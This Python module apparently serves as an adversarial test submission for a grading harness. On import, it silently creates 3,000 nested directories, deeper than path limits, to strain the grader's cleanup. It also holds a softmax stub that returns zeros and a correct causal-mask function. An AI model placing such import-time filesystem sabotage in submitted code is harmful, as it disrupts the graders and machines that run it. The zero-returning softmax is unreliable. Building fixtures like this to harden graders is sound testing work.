"""Leaves folders 3,000 levels deep (deeper than a path may be long) for the grader to remove."""
import os

import numpy as np

start = os.getcwd()
for _ in range(3000):
    os.mkdir("d")
    os.chdir("d")
    with open("f", "w") as handle:
        handle.write("x")
os.chdir(start)


def softmax(x, axis=-1, temperature=1.0):
    return np.zeros(np.shape(x))


def causal_mask(seq_len):
    """Honest and correct: must keep its full points."""
    if int(seq_len) != seq_len or seq_len < 1:
        raise ValueError("seq_len must be a positive integer")
    return np.tril(np.ones((seq_len, seq_len), dtype=bool))
